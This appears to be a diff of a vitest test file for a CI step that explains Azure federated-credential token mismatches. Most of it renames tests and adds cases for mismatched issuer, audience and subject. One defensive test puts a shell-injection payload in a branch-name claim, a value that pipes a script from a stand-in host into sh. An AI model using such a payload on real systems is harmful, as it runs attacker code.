@@ -1,9 +1,9 @@
-import { expect, it } from 'vitest';
+import { expect, test } from 'vitest';
 import { openScenario } from '../../support/scenario.ts';
 
 const { azure, step } = await openScenario();
 
-it.each([
+test.each([
   ['AADSTS700213', false],
   ['AADSTS70021', true],
 ])("shows the ID token's claims and the command that adds them (%s)", async (code, olderWording) => {
@@ -29,10 +29,38 @@ it.each([
   expect(error).toContain("The job names the environment 'prod'");
 });
 
-it('offers no command for a branch whose name a shell would read', async () => {
+test('offers no command for a branch whose name a shell would read', async () => {
   azure.identity.idTokenClaims = { sub: "repo:octo/churn:ref:refs/heads/x';curl evil.example|sh;'" };
   const { error } = await step();
 
   expect(error).toContain('(AADSTS700213)');
   expect(error).not.toContain('az ad app federated-credential create');
+});
+
+test.each([
+  [
+    'AADSTS700211',
+    { issuer: 'https://token.example' },
+    "none of its federated credentials has the ID token's issuer.",
+  ],
+  [
+    'AADSTS700212',
+    { audience: 'api://AzureADTokenExchangeUSGov' },
+    "none of its federated credentials has the ID token's audience.",
+  ],
+  [
+    'AADSTS7002138',
+    { subject: 'repo:Octo/Churn:ref:refs/heads/main' },
+    "differs from the ID token's subject in upper and lower case only.",
+  ],
+])('an ID token that differs otherwise is told apart (%s)', async (code, difference, reason) => {
+  azure.identity.federatedCredentials = azure.identity.federatedCredentials.map((credential) => ({
+    ...credential,
+    ...difference,
+  }));
+  const { error } = await step();
+
+  expect(error).toContain(`(${code}): `);
+  expect(error).toContain(reason);
+  expect(error).toContain(`subject: '${azure.oidc.subject}'`);
 });
